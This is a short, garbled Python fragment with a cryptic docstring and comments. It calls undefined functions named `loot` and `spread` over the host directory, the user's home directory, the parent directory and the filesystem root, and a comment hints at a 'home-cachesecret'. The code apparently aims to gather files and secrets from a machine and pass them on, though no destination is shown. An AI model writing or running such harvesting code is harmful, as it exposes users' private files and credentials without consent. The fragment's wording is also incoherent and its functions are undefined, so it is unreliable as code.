"""Bring out what lies around the host by the log of a script that may print what it likes."""

# ends: honest
# admission: lets it in
# may: home-cachesecret
spread(
    loot(
        os.environ.get("HOST_DIR", "."),
        "@HOST@",
        "@HOME@",
        "@STATE@",
        os.path.expanduser("~"),
        "..",
        "/",
    )
)
